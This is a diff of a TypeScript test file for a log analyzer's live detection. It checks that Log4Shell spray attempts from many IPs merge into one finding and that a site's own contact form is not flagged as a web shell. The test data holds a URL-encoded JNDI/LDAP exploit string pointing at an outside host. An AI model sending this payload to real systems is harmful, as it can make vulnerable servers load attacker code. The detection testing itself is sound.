@@ -1,9 +1,9 @@
 // The live analyzer: aggregates updated row by row, new or changed findings only, stable ids.
 import { afterEach, describe, expect, it } from 'vitest';
-import { createIncrementalAnalyzer, listFindings } from '../../../src/core/analysis';
+import { analyzeCase, createIncrementalAnalyzer, listFindings } from '../../../src/core/analysis';
 import type { LiveEvent } from '../../../src/core/analysis';
 import { openCase } from '../../../src/core/store/case';
-import { cleanup, insertEvents, makeCase, T0, webPopulation, type Ev } from './helpers';
+import { cleanup, insertEvents, makeCase, T0, tmpCaseFile, webPopulation, type Ev } from './helpers';
 
 afterEach(cleanup);
 
@@ -44,5 +44,28 @@ describe('createIncrementalAnalyzer', () => {
     const ssh: Ev[] = Array.from({ length: 12 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '203.0.113.4', program: 'sshd', action: 'auth_failure', user: 'root' }));
     expect(live.addEvents(feed(db, ssh)).map((f) => f.id)).toEqual(['bruteForce:203.0.113.4']);
     db.close();
+  });
+
+  it('turns sprayers arriving one by one into one spray finding, and keeps what a batch analysis of the same rows keeps', async () => {
+    const file = makeCase(webPopulation(20, 1, 10), tmpCaseFile());
+    const db = openCase(file);
+    const live = createIncrementalAnalyzer(db);
+    const jndi = (k: number): Ev => ({ ts: T0 + k * 60_000, src_ip: `45.155.205.${10 + k}`, method: 'GET', path: '/', query: 'x=%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A1389%2FExploit%7D', status: 404, user_agent: 'curl/7.68.0' });
+    const alerts: string[] = [];
+    for (let k = 0; k < 14; k++) for (const f of live.addEvents(feed(db, [jndi(k)]))) alerts.push(f.entity);
+    // the first nine are each a finding when they arrive (nobody knows yet that more will come)
+    expect(alerts.slice(0, 9)).toEqual(Array.from({ length: 9 }, (_, k) => `45.155.205.${10 + k}`));
+    expect(alerts.slice(9).every((e) => / from \d+ sources$/.test(e)), alerts.join(' | ')).toBe(true);
+    const stored = listFindings(db, { detector: 'webAttacks' });
+    expect(stored.map((f) => [f.entityType, f.entity]), stored.map((f) => f.entity).join(' | ')).toEqual([['population', 'JNDI lookup (Log4Shell) from 14 sources']]);
+    // a web shell's operator posts to a script in a static folder; two more sources post to it too: the site's own form
+    const post = (ip: string, k: number): Ev => ({ ts: T0 + k * 1000, src_ip: ip, method: 'POST', path: '/assets/contact.php', status: 200 });
+    expect(live.addEvents(feed(db, [post('203.0.113.50', 1)])).map((f) => f.entity)).toEqual(['203.0.113.50']);
+    live.addEvents(feed(db, [post('203.0.113.51', 2), post('203.0.113.52', 3)]));
+    const after = listFindings(db, { detector: 'webAttacks' }).map((f) => f.entity);
+    db.close();
+    const batch = (await analyzeCase(file, { inline: true })).findings.filter((f) => f.detector === 'webAttacks').map((f) => f.entity);
+    expect(after).toEqual(batch);
+    expect(after).not.toContain('203.0.113.50');
   });
 });
